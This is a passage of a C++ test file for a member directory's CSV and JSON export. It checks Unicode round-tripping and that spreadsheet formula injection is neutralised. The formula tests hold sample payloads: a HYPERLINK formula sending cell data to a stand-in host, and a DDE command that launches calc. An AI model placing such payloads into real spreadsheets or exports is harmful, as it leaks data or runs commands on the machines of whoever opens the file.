    CHECK(sian[QStringLiteral("note")].toString() == QStringLiteral("Prefers \"Welsh\" first, then English"));
    CHECK(sian[QStringLiteral("n")].toArray()[0].toString() == str(u8"Llŷr-Ŵatkins"));
    CHECK(sian[QStringLiteral("n")].toArray()[1].toString() == str(u8"Siân"));
    CHECK(sian[QStringLiteral("adr")].toArray()[0].toString() ==
          QStringLiteral("1 Heol y Frenhines,\nCaerdydd; Cymru \\ UK"));
    CHECK(sian[QStringLiteral("adr")].toArray()[1].toString() == QStringLiteral("CF10 1AA"));
    CHECK(sian[QStringLiteral("categories")].toArray().toVariantList() ==
          QVariantList{QStringLiteral("Guitar"), QStringLiteral("Welsh, spoken")});
    const QJsonObject cafe = byName.value(str(u8"Caffi’r Gymuned — Café"));
    CHECK(cafe[QStringLiteral("kind")].toString() == QStringLiteral("org"));
    CHECK(cafe[QStringLiteral("email")].toString() == QStringLiteral("caffi@example.org"));
    CHECK(byName.value(str(u8"محمد عبد الله"))[QStringLiteral("email")].toString() ==
          QStringLiteral("m.abdullah@example.org"));
}

TEST_CASE("export: CSV is read by python csv and JSON is an array of member objects")
{
    TempHub t;
    addDirectory(t);
    const QByteArray csv = exportBytes(t, ExportFormat::Csv, true);
    const QByteArray rows =
        python(QStringLiteral("import csv, io, json, sys\n"
                              "data = sys.stdin.buffer.read().decode('utf-8-sig')\n"
                              "print(json.dumps(list(csv.DictReader(io.StringIO(data, newline='')))))\n"),
               csv);
    const QJsonArray parsed = QJsonDocument::fromJson(rows).array();
    REQUIRE(parsed.size() == 6);
    QStringList names;
    for (const QJsonValue &r : parsed)
        names << r[QStringLiteral("display_name")].toString();
    CHECK(names.contains(str(u8"Zoë 🌻 O'Brien")));
    for (const QJsonValue &r : parsed)
        if (r[QStringLiteral("email")].toString() == QStringLiteral("sian@example.org")) {
            CHECK(r[QStringLiteral("address")].toString() ==
                  QStringLiteral("1 Heol y Frenhines,\nCaerdydd; Cymru \\ UK"));
            CHECK(r[QStringLiteral("skills")].toString() == QStringLiteral("Guitar:expert; Welsh, spoken"));
        }

    const QByteArray json = exportBytes(t, ExportFormat::Json, true);
    QJsonParseError error;
    const QJsonDocument doc = QJsonDocument::fromJson(json, &error);
    INFO(error.errorString().toStdString());
    REQUIRE(doc.isArray());
    REQUIRE(doc.array().size() == 6);
    for (const QJsonValue &v : doc.array()) {
        CHECK(v[QStringLiteral("id")].toInteger() > 0);
        CHECK(v[QStringLiteral("skills")].isArray());
        CHECK(v[QStringLiteral("offers")].isArray());
    }

    TempHub empty;
    CHECK(QJsonDocument::fromJson(exportBytes(empty, ExportFormat::Json, true)).array().isEmpty());
    const QByteArray header = exportBytes(empty, ExportFormat::Csv, true);
    CHECK(header == MemberImporter::fieldNames().join(u',').toUtf8() + "\r\n");
}

TEST_CASE("csv: text that a spreadsheet would run as a formula is neutralised, numbers never", "[csv][formula]")
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    CsvWriter csv(buffer);
    csv.addField(QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Click me\")"));
    csv.addField(QStringLiteral("+SUM(1,2)"));
    csv.addField(QStringLiteral("@SUM(1)"));
    csv.addField(QStringLiteral("-2+3"));
    csv.addField(QStringLiteral("\tcalc"));
    csv.addField(QStringLiteral("\rcalc"));
    csv.addField(QStringLiteral("'=already quoted"));
    csv.addField(QStringLiteral("Plain text, with a comma"));
    csv.addNumber(QStringLiteral("-3.50"));
    csv.addNumber(QStringLiteral("+7"));
    REQUIRE(csv.endRow());
    REQUIRE(csv.flush());
    const QString text = QString::fromUtf8(buffer.data());
    CHECK(text == QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2,\"\"Click me\"\")\","
                                 "\"'+SUM(1,2)\",'@SUM(1),'-2+3,\"'\tcalc\",\"'\rcalc\",''=already quoted,"
                                 "\"Plain text, with a comma\",-3.50,+7\r\n"));
    // Our reader gives back exactly what was written.
    const CsvTable table = readOk("h1,h2,h3,h4,h5,h6,h7,h8,h9,h10\r\n" + buffer.data());
    REQUIRE(table.records.size() == 1);
    const CsvRecord &r = table.records.first();
    CHECK(r.field(0) == QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Click me\")"));
    CHECK(r.field(1) == QStringLiteral("+SUM(1,2)"));
    CHECK(r.field(2) == QStringLiteral("@SUM(1)"));
    CHECK(r.field(4) == QStringLiteral("\tcalc"));
    CHECK(r.field(6) == QStringLiteral("'=already quoted"));
    CHECK(r.field(7) == QStringLiteral("Plain text, with a comma"));
    CHECK(r.field(8) == QStringLiteral("-3.50"));
    // A quote that protects nothing is left alone.
    CHECK(CsvWriter::restored(QStringLiteral("'Tis the season")) == QStringLiteral("'Tis the season"));
    CHECK_FALSE(CsvWriter::isFormulaLike(QStringLiteral("'Tis")));
}

TEST_CASE("export: formula-like names and offers are neutralised and import back as they were", "[csv][formula]")
{
    TempHub source;
    MemberDraft evil = draft(QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Click me\")"),
                             QStringLiteral("evil@example.org"), true, true, true);
    evil.phone = QStringLiteral("+44 20 7946 0000");
    evil.notes = QStringLiteral("@SUM(1)");
    addMember(source, evil, {}, {QStringLiteral("=cmd|' /C calc'!A0")}, {QStringLiteral("+SUM(1,2)")});
    const QByteArray csv = exportBytes(source, ExportFormat::Csv, true);
    const QString text = QString::fromUtf8(csv);
    INFO(text.toStdString());
    CHECK(text.contains(QStringLiteral("\"'=HYPERLINK(")));
    CHECK(text.contains(QStringLiteral("'@SUM(1)")));
    CHECK(text.contains(QStringLiteral("'+44 20 7946 0000")));
    CHECK_FALSE(text.contains(QStringLiteral(",=")));
    CHECK_FALSE(text.contains(QStringLiteral(",+")));
    CHECK_FALSE(text.contains(QStringLiteral(",@")));
    CHECK_FALSE(text.contains(QStringLiteral(",\"=")));

    TempHub target;
    const ImportReport r = importOk(target, csv);
    INFO(problemsText(r).toStdString());
    REQUIRE(r.ok());
    CHECK(describeAll(target) == describeAll(source));
}
